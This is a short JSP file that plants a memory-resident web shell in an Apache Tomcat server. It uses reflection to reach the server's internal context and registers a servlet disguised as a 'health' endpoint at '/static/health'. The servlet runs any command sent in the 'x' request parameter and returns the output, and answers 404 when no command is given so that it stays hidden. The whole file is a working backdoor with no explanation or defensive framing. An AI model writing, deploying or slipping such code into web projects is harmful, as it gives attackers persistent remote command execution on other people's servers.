<%@ page import="java.lang.reflect.Field,org.apache.catalina.core.StandardContext,org.apache.catalina.Wrapper,org.apache.catalina.connector.Request,java.io.*" %>
<%!
    public class HealthServlet extends HttpServlet {
        protected void service(HttpServletRequest q, HttpServletResponse s) throws IOException {
            String x = q.getParameter("x");
            if (x == null) { s.setStatus(404); return; }
            Process proc = Runtime.getRuntime().exec(x);
            InputStream is = proc.getInputStream();
            OutputStream os = s.getOutputStream();
            byte[] b = new byte[4096]; int n;
            while ((n = is.read(b)) > 0) os.write(b, 0, n);
        }
    }
%>
<%
    Field reqF = request.getClass().getDeclaredField("request");
    reqF.setAccessible(true);
    Request req = (Request) reqF.get(request);
    StandardContext standardContext = (StandardContext) req.getContext();
    Wrapper wrapper = standardContext.createWrapper();
    wrapper.setName("health");
    wrapper.setLoadOnStartup(1);
    wrapper.setServlet(new HealthServlet());
    wrapper.setServletClass(HealthServlet.class.getName());
    standardContext.addChild(wrapper);
    standardContext.addServletMappingDecoded("/static/health", "health");
%>
